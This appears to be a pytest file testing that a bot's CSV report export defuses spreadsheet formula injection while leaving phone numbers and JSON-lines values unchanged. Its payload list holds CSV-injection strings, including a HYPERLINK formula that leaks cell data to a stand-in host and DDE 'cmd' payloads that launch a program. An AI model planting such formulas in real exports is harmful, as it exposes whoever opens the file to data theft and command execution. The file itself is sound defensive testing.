"""CSV export: formulas are defused, values people copy (a phone number) are not changed;
JSON lines carry every value exactly as stored."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from bot.app import build_catalogs
from bot.config import Settings
from bot.intake.reports import ReportFormatter
from bot.ports import StoredReport
from dialogs.intake import INTAKE

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1+1 was the bill",
    "+44 then =1",
]
VALUES = ["+447700900123", "+442079460958", "-5", "+3.5", "Sam Taylor", "sam@example.org", ""]


def report(what_happened: str, phone: str | None) -> StoredReport:
    data = {
        "reference": "ABCD-EFGH",
        "created_at": "2026-03-01T09:00:00+00:00",
        "channel": "web",
        "locale": "en",
        "priority": "routine",
        "what_happened": what_happened,
        "contact": {"name": what_happened, "email": "sam@example.org", "phone": phone},
    }
    return StoredReport(
        "ABCD-EFGH", "c1", datetime(2026, 3, 1, tzinfo=UTC), "web", "en", "routine", data
    )


@pytest.fixture(scope="module")
def formatter() -> ReportFormatter:
    return ReportFormatter(INTAKE, build_catalogs(Settings()))


def csv_row(formatter: ReportFormatter, stored: StoredReport) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO("".join(formatter.csv([stored])), newline="")))
    assert len(rows) == 1
    return rows[0]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_defused_in_every_cell(formatter: ReportFormatter, payload: str) -> None:
    row = csv_row(formatter, report(payload, "+447700900123"))
    assert row["what_happened"] == "'" + payload
    assert row["contact_name"] == "'" + payload
    assert row["contact_phone"] == "+447700900123"


@pytest.mark.parametrize("value", VALUES)
def test_values_are_exported_as_they_are(formatter: ReportFormatter, value: str) -> None:
    row = csv_row(formatter, report(value, value or None))
    assert row["what_happened"] == value and row["contact_phone"] == value


@pytest.mark.parametrize("value", PAYLOADS + VALUES)
def test_json_lines_are_never_changed(formatter: ReportFormatter, value: str) -> None:
    (line,) = list(formatter.jsonl([report(value, value)]))
    record = json.loads(line)
    assert record["what_happened"] == value and record["contact"]["phone"] == value
